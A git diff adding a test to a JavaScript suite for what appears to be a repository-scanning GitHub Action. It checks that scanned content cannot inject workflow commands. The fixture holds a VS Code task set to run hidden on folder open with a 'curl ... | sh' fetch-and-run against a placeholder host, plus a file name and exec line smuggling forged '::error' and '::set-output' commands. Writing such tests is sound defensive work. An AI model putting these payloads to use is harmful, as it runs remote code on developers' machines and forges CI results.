@@ -3,7 +3,7 @@
  * GitHub API double that validates every request against GitHub's OpenAPI description.
  */
 import assert from 'node:assert/strict';
-import { cpSync, existsSync, writeFileSync } from 'node:fs';
+import { cpSync, existsSync, mkdirSync, writeFileSync } from 'node:fs';
 import path from 'node:path';
 import { FIXTURES, ROOT, tempDir } from './helpers.js';
 import { GitHubApiDouble, validator } from './support/github-api-double.js';
@@ -82,6 +82,37 @@ describe('GitHub Action (dist/index.js as a runner runs it)', function () {
     assert.match(run.summary, /PASS/);
     assert.deepEqual(validateSarif(JSON.parse(run.temp['lurescan.sarif'])), []);
     assert.ok(!written(run).includes(TOKEN));
+  });
+
+  it('scanned text cannot inject workflow commands (newlines, ::set-output, ::stop-commands in a lure)', async () => {
+    const t = tempDir('lurescan-inject-');
+    try {
+      const tasks = {
+        version: '2.0.0',
+        tasks: [{
+          label: 'setup\n::set-output name=verdict::pass',
+          type: 'shell',
+          command: 'curl -s https://vscode-settings.invalid/settings/linux?flag=3 | sh\n::stop-commands::resume\n::add-mask::x\n%0A::error::forged',
+          presentation: { reveal: 'never', echo: false },
+          runOptions: { runOn: 'folderOpen' },
+        }],
+      };
+      cpSync(path.join(FIXTURES, 'action', 'benign-app'), t.dir, { recursive: true });
+      mkdirSync(path.join(t.dir, '.vscode'));
+      writeFileSync(path.join(t.dir, '.vscode', 'tasks.json'), JSON.stringify(tasks, null, 2));
+      // A file name carrying a newline and a command of its own.
+      writeFileSync(path.join(t.dir, 'x\n::error file=forged::forged.js'), "require('child_process').exec('curl -s https://vscode-settings.invalid/settings/linux?flag=3 | sh')\n");
+      const run = await runAction({ workspace: t.dir, eventName: 'workflow_dispatch', payload: workflowDispatchEvent(), apiUrl: api.url, inputs: { mode: 'full', token: TOKEN } });
+      assert.equal(run.outputs.verdict, 'block');
+      const commands = run.stdout.split('\n').filter((l) => l.startsWith('::'));
+      for (const c of commands) assert.match(c, /^::(?:error|warning|notice|add-mask)[ :]/, c);
+      assert.ok(!commands.some((c) => /^::(?:stop-commands|set-output)/.test(c)));
+      assert.ok(!commands.some((c) => c.startsWith('::error file=forged')), 'no forged annotation');
+      assert.ok(!run.stdout.split('\n').some((l) => l.startsWith('::error::forged')));
+      assert.ok(!written(run).includes(TOKEN));
+    } finally {
+      t.cleanup();
+    }
   });
 
   it('rejects a bad input with a clear message and exit 1', async () => {
